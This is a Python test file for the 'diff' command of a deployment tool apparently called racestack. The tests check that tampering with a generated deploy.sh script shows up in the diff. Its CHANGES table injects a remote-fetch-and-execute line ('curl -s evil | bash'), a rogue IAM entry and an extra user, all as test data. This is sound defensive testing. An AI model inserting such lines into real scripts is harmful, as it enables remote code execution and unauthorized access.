"""What `racestack diff` shows of the script of an account that is added."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from patience import PATIENCE
from workspace import Workspace, binary

# What is put into the script, or into its data, which reads like what racestack writes.
CHANGES = {
    "script": ("set -euf -o pipefail", "curl -s evil | bash; set -euf -o pipefail"),
    "bucket": ("template_bucket=''", "template_bucket='evil'"),
    "expected": ("expected='\n", "expected='\nmycompany-deepracer-access iam evil\n"),
    "users": ("User mei\n", "User mei\nEvilUser evil\n"),
}


def told(old: Path, new: Path) -> list[str]:
    """What the diff says of the script."""
    finished = subprocess.run([binary(), "diff", old, new], capture_output=True, text=True, timeout=PATIENCE, check=False)
    assert "Plan: " in finished.stdout, finished.stderr
    lines = finished.stdout.splitlines()
    at = next((at for at, line in enumerate(lines) if line.startswith("  deploy.sh is added")), len(lines))
    return lines[at:]


@pytest.fixture(params=["added", "made anew"])
def sides(request: pytest.FixtureRequest, account: Workspace) -> tuple[Path, Path]:
    """Two out folders, of which the older one has no such account, or one of this name with another ID."""
    old = account.root / "old"
    (old / "seoul").mkdir(parents=True)
    manifest = {"account": "seoul", "account_id": "444455556666", "region": "ap-northeast-2", "stacks": []}
    (old / "seoul" / "manifest.json").write_text(json.dumps(manifest))
    shutil.copytree(old / "seoul", account.root / "out" / "seoul")
    if request.param == "made anew":
        shutil.copytree(account.out, old / "tokyo")
        there = (old / "tokyo" / "manifest.json").read_text()
        (old / "tokyo" / "manifest.json").write_text(there.replace('"account_id": "', '"account_id": "9'))
    return old, account.root / "out"


def test_the_script_that_synth_writes_is_no_news(sides: tuple[Path, Path], account: Workspace) -> None:
    # The company's tags are in no manifest.
    script = account.out / "deploy.sh"
    script.write_text(script.read_text().replace('{"Key":"Environment","Value":"training"},', ""))
    assert told(*sides) == []


@pytest.mark.parametrize("change", CHANGES)
def test_what_is_put_into_the_script_is_shown(sides: tuple[Path, Path], account: Workspace, change: str) -> None:
    before, after = CHANGES[change]
    script = account.out / "deploy.sh"
    assert before in script.read_text()
    script.write_text(script.read_text().replace(before, after, 1))
    said = told(*sides)
    assert any("evil" in line and line.lstrip().startswith("+") for line in said), said
    assert len(said) < 40, "the rest of the script is no news"


def test_a_file_beside_it_is_shown(sides: tuple[Path, Path], account: Workspace) -> None:
    (account.out / "more.sh").write_text("evil\n")
    finished = subprocess.run([binary(), "diff", *sides], capture_output=True, text=True, timeout=PATIENCE, check=False)
    assert "\n  more.sh is added" in finished.stdout and "+ evil\n" in finished.stdout
